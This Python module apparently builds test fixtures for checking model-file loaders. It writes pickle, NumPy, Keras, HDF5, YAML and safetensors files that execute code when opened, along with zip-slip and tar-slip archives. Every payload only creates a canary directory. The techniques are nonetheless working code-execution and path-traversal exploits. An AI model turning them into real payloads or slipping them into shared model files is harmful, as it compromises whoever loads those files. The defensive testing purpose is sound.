"""Files that run code where they are opened as their format asks for: pickle, numpy objects, Keras, HDF5, YAML."""

import io
import json
import marshal
import os
import pickle
import tarfile
import zipfile
from base64 import b64encode
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np


class Canary:
    """Makes a directory when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.path),)


def files(canary: Path) -> Iterator[tuple[str, bytes]]:
    """Yield the exploits: the usual name of such a file, and its content."""
    code = pickle.dumps(Canary(canary))
    yield "model.pkl", code
    yield "model.pt", _zip({"archive/data.pkl": code, "archive/version": b"3\n"})
    yield "model.npy", object_array(canary)
    yield "model.npz", object_archive(canary)
    yield "model.keras", keras_lambda(canary)
    yield "weights.keras", _zip({"config.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n" + code})
    yield "model.h5", b"\x89HDF\r\n\x1a\n" + code
    yield "model.yaml", f"!!python/object/apply:os.mkdir ['{canary}']\n".encode()
    yield "model.py", f"import os\nos.mkdir({str(canary)!r})\n".encode()
    yield "zip-slip.keras", _zip({f"../../../../../../..{canary}/x": b"x", f"{canary}/y": b"y"})
    yield "tar-slip.tar.gz", _tar(f"../../../../../../..{canary}/x")
    yield "header.safetensors", len(code).to_bytes(8, "little") + code
    yield "tail.safetensors", (2).to_bytes(8, "little") + b"{}" + code


def object_array(canary: Path) -> bytes:
    """Return a .npy file of an object."""
    stream = io.BytesIO()
    np.save(stream, np.array([Canary(canary)], dtype=object))
    return stream.getvalue()


def object_archive(canary: Path) -> bytes:
    """Return a .npz file of an object."""
    stream = io.BytesIO()
    np.savez(stream, weights=np.array([Canary(canary)], dtype=object))
    return stream.getvalue()


def keras_lambda(canary: Path) -> bytes:
    """Return a .keras file with a Lambda layer, whose code runs when the model is built."""
    attack = eval(f"lambda x: __import__('os').mkdir({str(canary)!r}) or x")
    code = b64encode(marshal.dumps(attack.__code__)).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    layers = [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 1], "name": "input"}},
        {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "x", "function": function}},
    ]
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": layers}}
    metadata = json.dumps({"keras_version": "3.15.1"}).encode()
    weights = io.BytesIO()
    np.savez(weights, x=np.zeros(1))
    members = {"metadata.json": metadata, "model.weights.npz": weights.getvalue()}
    return _zip({"config.json": json.dumps(config).encode(), **members})


def saved_model(directory: Path, canary: Path) -> None:
    """Make a directory that resembles a SavedModel of TensorFlow, with a pickle under each name."""
    code = pickle.dumps(Canary(canary))
    for name in ("saved_model.pb", "keras_metadata.pb", "fingerprint.pb", "variables/variables.index"):
        path = directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(code)


def _zip(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def _tar(name: str) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo(name))
    return stream.getvalue()
